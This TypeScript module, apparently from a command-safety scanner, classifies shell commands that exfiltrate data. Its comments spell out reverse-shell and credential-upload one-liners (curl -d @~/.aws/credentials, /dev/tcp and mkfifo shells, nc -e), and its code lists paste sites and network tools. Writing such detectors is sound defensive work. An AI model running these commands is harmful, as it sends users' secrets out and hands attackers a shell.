// exfiltration: data leaving the machine. Uploading credential files or the environment
// (curl -d @~/.aws/credentials, tar ~/.ssh | curl -T -, cat key | nc), copying secrets to
// remote hosts (scp, rsync, cloud cp), reverse shells (/dev/tcp, nc -e), and DNS tricks that
// smuggle command output in a hostname. Posting ordinary data to unknown hosts is a warning.
import type { Script, SimpleCommand, Word } from '../shell/types.js';
import type { Severity } from '../types.js';
import type { RuleContext } from './context.js';
import { credentialRisk } from './credential-paths.js';
import { copyOperands, credentialReadBy } from './credentials.js';
import { executesStdin, hasArgCI, hasLong, HTTPIE_CLIENTS, httpieHost, isLocalHost, optionValues, POWERSHELL, positionals, remoteSpecHost, SHELLS, upstream, urlHosts } from './facts.js';

const CATEGORY = 'exfiltration';
// Anonymous paste, file-drop and request-capture services: nothing legitimate needs an agent to upload there.
const DROP_SITES = /(?:^|\.)(?:pastebin\.com|paste\.ee|hastebin\.com|ghostbin\.\w+|dpaste\.\w+|transfer\.sh|file\.io|0x0\.st|termbin\.com|ix\.io|webhook\.site|requestbin\.\w+|pipedream\.net|ngrok\.io|ngrok-free\.app|trycloudflare\.com|oast\.\w+|interact\.sh|burpcollaborator\.net|anonfiles\.com|gofile\.io|catbox\.moe|temp\.sh|bashupload\.com)$/;
const WELL_KNOWN = /(?:^|\.)(?:github\.com|githubusercontent\.com|gitlab\.com|bitbucket\.org|npmjs\.org|npmjs\.com|pypi\.org|atlassian\.net|slack\.com|googleapis\.com|amazonaws\.com|azure\.com|sentry\.io|vercel\.com|netlify\.com)$/;
const UPLOAD_OPTS = ['-d', '--data', '--data-binary', '--data-raw', '--data-urlencode', '--data-ascii', '-F', '--form', '--form-string', '-T', '--upload-file', '--json'];
const NET_TOOLS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
const DNS_TOOLS = new Set(['dig', 'nslookup', 'host', 'drill', 'ping', 'ping6', 'traceroute', 'resolvectl']);

function emit(ctx: RuleContext, severity: Severity, rule: string, reason: string, hosts?: string[], paths?: string[]): void {
  ctx.emit({ patternName: `${CATEGORY}.${rule}`, severity, category: CATEGORY, layer: 'builtin', reason, hosts: hosts?.length ? hosts : undefined, paths });
}

/** What the earlier pipeline stages feed into `cmd`: credentials, the environment, or nothing special. */
function sensitiveStdin(cmd: SimpleCommand): { severity: Severity; what: string; path?: string } | null {
  for (const u of upstream(cmd)) {
    const read = credentialReadBy(u);
    if (read) return { severity: read.risk.severity === 'medium' ? 'high' : 'critical', what: read.risk.label, path: read.path };
    if (u.name === 'env' || u.name === 'printenv' || (u.name === 'set' && u.args.length === 0)) return { severity: 'high', what: 'the environment variables' };
  }
  return null;
}

/** Secrets read inside `$( … )` of any word. */
function sensitiveSubstitution(words: readonly Word[]): { severity: Severity; what: string } | null {
  for (const w of words) {
    for (const sub of w.subs) {
      for (const c of sub.commands) {
        const read = credentialReadBy(c);
        if (read) return { severity: 'critical', what: read.risk.label };
        if (c.name === 'env' || c.name === 'printenv' || c.name === 'whoami' || c.name === 'hostname' || c.name === 'id') {
          return { severity: c.name === 'env' || c.name === 'printenv' ? 'high' : 'medium', what: `the output of ${c.name}` };
        }
      }
    }
  }
  return null;
}

function destination(hosts: string[]): { external: string[]; label: string } {
  const external = hosts.filter((h) => !isLocalHost(h));
  return { external, label: external.join(', ') };
}

function inspectHttpUpload(cmd: SimpleCommand, ctx: RuleContext): void {
  const args = cmd.args;
  const { external, label } = destination(args.flatMap(urlHosts));
  if (external.length === 0) return;
  const payloads = cmd.name === 'curl' ? optionValues(args, UPLOAD_OPTS) : optionValues(args, ['--post-file', '--post-data', '--body-file', '--body-data']);
  const method = (optionValues(args, ['-X', '--request', '--method'])[0] ?? '').toUpperCase();
  const sub = sensitiveSubstitution(cmd.argv);
  if (sub) return emit(ctx, sub.severity, 'secret_upload', `Sends ${sub.what} to ${label}.`, external);
  for (const p of payloads) {
    const file = p.startsWith('@') ? p.slice(1) : p.includes('=@') ? p.slice(p.indexOf('=@') + 2).split(';')[0] : cmd.name === 'wget' && !p.includes('=') ? p : undefined;
    const isUploadFile = cmd.name === 'curl' && (args.includes('-T') || hasLong(args, '--upload-file')) && !p.startsWith('@');
    const path = file ?? (isUploadFile ? p : undefined);
    if (path === '-') {
      const stdin = sensitiveStdin(cmd);
      if (stdin) return emit(ctx, stdin.severity, 'secret_upload', `Uploads credentials to ${label}: ${stdin.what}.`, external, stdin.path ? [stdin.path] : undefined);
    } else if (path) {
      const risk = credentialRisk(path);
      if (risk) return emit(ctx, risk.severity === 'medium' ? 'high' : 'critical', 'secret_upload', `Uploads a credential file to ${label}: ${risk.label}.`, external, [path]);
    }
  }
  const uploads = payloads.length > 0 || /^(?:POST|PUT|PATCH)$/.test(method);
  if (!uploads) return;
  if (external.some((h) => DROP_SITES.test(h))) return emit(ctx, 'high', 'paste_service', `Uploads data to the anonymous paste/drop service ${label}.`, external);
  if (payloads.length === 0) return emit(ctx, 'low', 'http_write', `Sends a ${method} request to ${label}.`, external);
  const known = external.every((h) => WELL_KNOWN.test(h));
  emit(ctx, known ? 'low' : 'medium', 'http_upload', `Sends local data to ${known ? 'the service' : 'the unrecognised external endpoint'} ${label}.`, external);
}

// Mail clients send their standard input (and attachments) to the recipients named: a pipeline
// feeding them the environment or a credential file mails the secrets out.
const MAIL_CLIENTS = new Set(['mail', 'mailx', 's-nail', 'bsd-mailx', 'nail', 'mutt', 'neomutt', 'sendmail', 'msmtp', 'ssmtp', 'swaks', 'sendemail', 'mpack']);
const MAIL_ATTACH = new Set(['-a', '-A', '--attach', '--attach-body']);

function inspectMail(cmd: SimpleCommand, ctx: RuleContext): void {
  const args = cmd.args;
  const rcpt = args.filter((a) => /^[^@\s/]+@[A-Za-z0-9.-]+$/.test(a));
  const to = rcpt.length ? rcpt.join(', ') : 'a mail recipient';
  for (let i = 0; i < args.length; i++) {
    const file = MAIL_ATTACH.has(args[i]) ? args[i + 1] : cmd.name === 'mpack' && !args[i].startsWith('-') && args[i - 1] !== '-s' ? args[i] : undefined;
    const risk = file ? credentialRisk(file) : null;
    if (risk) return emit(ctx, 'critical', 'secret_upload', `Mails ${risk.label} to ${to} as an attachment.`, undefined, [file!]);
  }
  const read = credentialReadBy(cmd);
  const stdin = sensitiveStdin(cmd) ?? (read ? { severity: 'critical' as Severity, what: read.risk.label, path: read.path } : null);
  if (stdin) emit(ctx, stdin.severity, 'secret_upload', `Mails ${stdin.what} to ${to} (${cmd.name} sends what it reads).`, undefined, stdin.path ? [stdin.path] : undefined);
}

// Clients that carry a byte stream to a remote host: plain TCP, TLS (`openssl s_client`,
// `gnutls-cli`, `ncat --ssl`) and the encrypting netcats.
const STREAM_CLIENTS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'cryptcat', 'pwncat', 'sbd', 'gnutls-cli', 'sclient']);

function streamClient(cmd: SimpleCommand): boolean {
  return STREAM_CLIENTS.has(cmd.name) || (cmd.name === 'openssl' && cmd.args[0] === 's_client');
}

/**
 * A shell wired to a network client through a pipeline (`sh -i 2>&1 | openssl s_client -connect
 * h:443 > /tmp/f` with the fifo feeding the shell, `nc h 443 | sh | nc h 444`): whoever is at the
 * other end types into the shell and reads its output, a reverse shell whatever the transport.
 */
function pipedShell(cmd: SimpleCommand): SimpleCommand | undefined {
  const stages = cmd.pipeline.stages;
  if (stages.length < 2) return undefined;
  for (let i = 0; i < stages.length; i++) {
    if (i === cmd.stage) continue;
    for (const other of stages[i]) if ((SHELLS.has(other.name) || POWERSHELL.has(other.name)) && (executesStdin(other) || other.args.includes('-i'))) return other;
  }
  return undefined;
}

function runsInput(cmd: SimpleCommand): boolean {
  return (SHELLS.has(cmd.name) || POWERSHELL.has(cmd.name)) && (executesStdin(cmd) || cmd.args.includes('-i'));
}

/**
 * A shell wired to the network outside one pipeline: through files both ends open (the fifo
 * pair of `mkfifo i o; sh -i < i > o & nc h 443 < o > i`), or through a descriptor that `exec`
 * opened on `/dev/tcp` (`exec 3<>/dev/tcp/h/443; sh <&3 >&3`). Script-wide: the ends are
 * separate commands.
 */
export function inspectWiredShells(script: Script, ctx: RuleContext): void {
  let shellFiles: Set<string> | undefined;
  let shellFd = false;
  let socketFd: string | undefined;
  const clientFiles: { name: string; files: string[] }[] = [];
  for (const c of script.commands) {
    if (c.redirects.length === 0) continue;
    if (c.name === 'exec') {
      const tcp = c.redirects.find((r) => /^\/dev\/(?:tcp|udp)\/[^/]+\//.test(r.target.text));
      if (tcp) socketFd = tcp.target.text.split('/')[3];
    } else if (runsInput(c)) {
      for (const r of c.redirects) {
        const t = r.target.text;
        if (r.op === '<&' || r.op === '>&') {
          if (/^(?:[3-9]|\d{2,})$/.test(t)) shellFd = true;
        } else if (t !== '/dev/null' && !t.startsWith('/dev/std')) (shellFiles ??= new Set()).add(t);
      }
    } else if (streamClient(c)) {
      clientFiles.push({ name: c.name === 'openssl' ? 'openssl s_client' : c.name, files: c.redirects.filter((r) => !r.op.includes('&')).map((r) => r.target.text) });
    }
  }
  if (socketFd && shellFd) return emit(ctx, 'critical', 'reverse_shell', `A shell reads and writes a descriptor opened on /dev/tcp to ${socketFd} (a reverse shell).`, [socketFd]);
  if (!shellFiles) return;
  for (const c of clientFiles) {
    const shared = c.files.find((f) => shellFiles!.has(f));
    if (shared) return emit(ctx, 'critical', 'reverse_shell', `${c.name} and a shell share ${shared}, so the network end types into the shell and reads its output (a reverse shell).`);
  }
}

export function inspectExfiltrationCommand(cmd: SimpleCommand, ctx: RuleContext): void {
  const args = cmd.args;
  const name = cmd.name;
  if (streamClient(cmd)) {
    const shell = pipedShell(cmd);
    if (shell) return emit(ctx, 'critical', 'reverse_shell', `${name === 'openssl' ? 'openssl s_client' : name} carries a ${shell.name} shell's input and output over the network (a reverse shell).`);
  }
  for (const r of cmd.redirects) {
    const m = /^\/dev\/(tcp|udp)\/([^/]+)\//.exec(r.target.text);
    if (!m) continue;
    const interactive = (name === 'bash' || name === 'sh' || name === 'zsh') && (args.includes('-i') || r.op.includes('&'));
    if (interactive || name === 'bash' || name === 'sh') emit(ctx, 'critical', 'reverse_shell', `Connects a shell to ${m[2]} over /dev/${m[1]} (a reverse shell).`, [m[2]]);
    else {
      const stdin = sensitiveStdin(cmd) ?? (credentialReadBy(cmd) ? { severity: 'critical' as Severity, what: 'credentials' } : null);
      emit(ctx, stdin ? 'critical' : 'high', 'raw_socket', `Sends ${stdin ? stdin.what : 'data'} to ${m[2]} over a raw /dev/${m[1]} socket.`, [m[2]]);
    }
  }
  if (name === 'curl' || name === 'wget') return inspectHttpUpload(cmd, ctx);
  if (HTTPIE_CLIENTS.has(name)) {
    const upload = args.some((a) => /^(?:POST|PUT|PATCH)$/i.test(a) || /[:=]?@/.test(a));
    const host = httpieHost(args);
    const { external, label } = destination(host ? [host] : []);
    if (upload && external.length) {
      const file = args.map((a) => a.split('@')[1]).find((f) => f && credentialRisk(f));
      if (file) emit(ctx, 'critical', 'secret_upload', `Uploads ${credentialRisk(file)!.label} to ${label}.`, external, [file]);
      else emit(ctx, 'medium', 'http_upload', `Sends local data to the external endpoint ${label}.`, external);
    }
    return;
  }
  if (name === 'invoke-webrequest' || name === 'iwr' || name === 'invoke-restmethod' || name === 'irm') {
    const lower = args.map((a) => a.toLowerCase());
    const infile = optionValues(lower, ['-infile'])[0];
    const { external, label } = destination(args.flatMap(urlHosts));
    if (infile && credentialRisk(infile)) emit(ctx, 'critical', 'secret_upload', `Uploads ${credentialRisk(infile)!.label} to ${label}.`, external, [infile]);
    else if (external.length && (infile || hasArgCI(args, 'post', 'put')) && hasArgCI(args, '-body', '-infile', '-method')) emit(ctx, 'medium', 'http_upload', `Sends local data to ${label}.`, external);
    return;
  }
  if (NET_TOOLS.has(name)) {
    if (args.some((a) => /^-[a-z]*[ec]$/.test(a) || a === '--exec' || a === '--sh-exec' || /^(?:exec|system):/i.test(a))) {
      return emit(ctx, 'critical', 'reverse_shell', `${name} wires a shell to a network connection (a reverse or bind shell).`);
    }
    if (args.some((a) => /^-[a-z]*l/.test(a) || a === '--listen')) return;
    const host = positionals(args).find((a) => /[a-z0-9]/i.test(a) && !/^\d+$/.test(a))?.replace(/^tcp:|:\d+$/gi, '');
    if (!host || isLocalHost(host)) return;
    const stdin = sensitiveStdin(cmd) ?? (credentialReadBy(cmd) ? { severity: 'critical' as Severity, what: 'credentials' } : null);
    emit(ctx, stdin ? stdin.severity : 'medium', stdin ? 'secret_upload' : 'raw_socket', stdin ? `Sends ${stdin.what} to ${host} over a raw TCP connection.` : `Opens a raw network connection to ${host}.`, [host]);
    return;
  }
  if (MAIL_CLIENTS.has(name)) return inspectMail(cmd, ctx);
  if (name === 'scp' || name === 'rsync' || name === 'sftp' || name === 'rclone') {
    // Option values (`--exclude .env`, `-i KEY`) are not operands.
    const pos = copyOperands(cmd) ?? positionals(args);
    const dest = pos[pos.length - 1] ?? '';
    const host = remoteSpecHost(dest) ?? (/^rsync:\/\//.test(dest) ? urlHosts(dest)[0] : undefined);
    if (!host || isLocalHost(host)) return;
    for (const src of pos.slice(0, -1)) {
      const risk = credentialRisk(src);
      if (risk) return emit(ctx, 'critical', 'secret_copy', `Copies ${risk.label} to the remote host ${host}.`, [host], [src]);
    }
    return;
  }
  if ((name === 'aws' && args[0] === 's3') || name === 'gsutil' || (name === 'gcloud' && args[0] === 'storage') || name === 'azcopy') {
    const pos = positionals(args);
    if (!pos.some((a) => /^(?:s3|gs|https):\/\//.test(a))) return;
    for (const src of pos) {
      const risk = credentialRisk(src);
      if (risk) return emit(ctx, 'critical', 'secret_copy', `Copies ${risk.label} to cloud storage.`, [], [src]);
    }
    return;
  }
  if (DNS_TOOLS.has(name)) {
    const sub = sensitiveSubstitution(cmd.argv);
    const hasSub = cmd.argv.slice(1).some((w) => w.subs.length > 0);
    if (hasSub) emit(ctx, sub?.severity === 'critical' ? 'critical' : 'high', 'dns_exfiltration', `${name} embeds command output${sub ? ` (${sub.what})` : ''} in a hostname, a DNS exfiltration technique.`);
    return;
  }
  if (name === 'git' && (args[0] === 'push' || (args[0] === 'remote' && args[1] === 'add'))) {
    const ipRemote = args.map((a) => remoteSpecHost(a) ?? urlHosts(a)[0]).find((h) => h && /^\d{1,3}(?:\.\d{1,3}){3}$/.test(h) && !isLocalHost(h));
    if (ipRemote) emit(ctx, 'medium', 'git_push_ip', `Pushes the repository to a bare IP address (${ipRemote}).`, [ipRemote]);
  }
}
